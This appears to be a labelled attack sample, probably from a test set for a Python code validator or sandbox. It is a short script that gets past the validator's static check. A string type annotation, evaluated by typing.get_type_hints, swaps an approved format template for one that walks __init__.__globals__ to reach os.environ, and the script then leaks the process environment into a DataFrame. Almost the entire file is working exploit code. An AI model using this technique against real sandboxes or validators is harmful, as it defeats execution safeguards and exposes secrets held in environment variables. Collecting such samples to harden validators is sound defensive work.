# class: format_lookup
# technique: the validator accepts t.format(...) because t is bound once to a plain literal; an annotation evaluated by get_type_hints rebinds t to an attribute-walking template before the call (time of check vs time of use)
# goal: read
import typing

import numpy as np
import pandas as pd

t = "{0}"
u = "_" * 2
evil = "{0." + u + "init" + u + "." + u + "globals" + u + "[sys].modules[os].environ}"


def swap(x: "[globals().update(t=evil), int][-1]"):
    return x


typing.get_type_hints(swap)
leak = t.format(np.vectorize)
if not leak.startswith("environ("):
    raise RuntimeError("no environment")
df = pd.DataFrame({"environ": [leak]})
